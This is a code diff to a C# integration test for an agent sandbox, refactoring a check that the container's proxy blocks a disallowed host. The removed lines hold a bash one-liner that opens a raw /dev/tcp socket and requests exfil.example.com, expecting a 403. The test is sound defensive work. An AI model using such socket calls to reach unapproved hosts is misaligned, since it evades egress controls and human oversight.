@@ -1,4 +1,4 @@
-using System.Diagnostics;
+using BotBottle.Testing;
 using System.Text.Json;
 
 namespace BotBottle.Cli.Tests.Commands;
@@ -74,12 +74,7 @@ public sealed class CliTests(RunningServices services) : IClassFixture<RunningSe
         var slug = started.Stdout.Trim();
 
         // The agent tries a host its manifest entry does not allow, through its proxy as any tool would.
-        using (var attempt = Process.Start(new ProcessStartInfo("docker", ["exec", $"botbottle-{slug}", "bash", "-c",
-            "proxy=${HTTP_PROXY#http://}; exec 3<>/dev/tcp/${proxy%:*}/${proxy##*:}; printf 'GET http://exfil.example.com/ HTTP/1.1\\r\\nHost: exfil.example.com\\r\\nConnection: close\\r\\n\\r\\n' >&3; head -1 <&3"]) { RedirectStandardOutput = true })!)
-        {
-            Assert.StartsWith("HTTP/1.1 403", await attempt.StandardOutput.ReadToEndAsync(), StringComparison.Ordinal);
-            await attempt.WaitForExitAsync();
-        }
+        Assert.StartsWith("HTTP/1.1 403", await ProxyProbe.GetThroughDockerAsync($"botbottle-{slug}", "http://exfil.example.com/"), StringComparison.Ordinal);
 
         var deadline = DateTime.UtcNow.AddSeconds(30);
         CliResult logs;
